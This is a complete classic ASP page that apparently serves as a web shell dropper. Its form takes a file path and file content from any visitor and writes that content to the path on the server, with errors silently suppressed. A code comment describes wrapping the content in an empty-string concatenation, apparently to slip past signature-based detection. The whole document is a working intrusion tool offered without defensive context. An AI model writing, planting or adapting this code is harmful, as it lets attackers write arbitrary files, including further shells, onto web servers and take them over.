<%
' the request names the file and supplies its text; the text is written as one operand of a
' concatenation (""&body&"") rather than alone
On Error Resume Next
target = Request.Form("where")
body = Request.Form("what")
Set fs = Server.CreateObject("Scripting.FileSystemObject")
Set ts = fs.OpenTextFile(target, 2, True, 0)
ts.WriteLine("" & body & "")
ts.Close
Set fs = Nothing
%>
<form method="post"><input name="where"><textarea name="what"></textarea><input type="submit"></form>
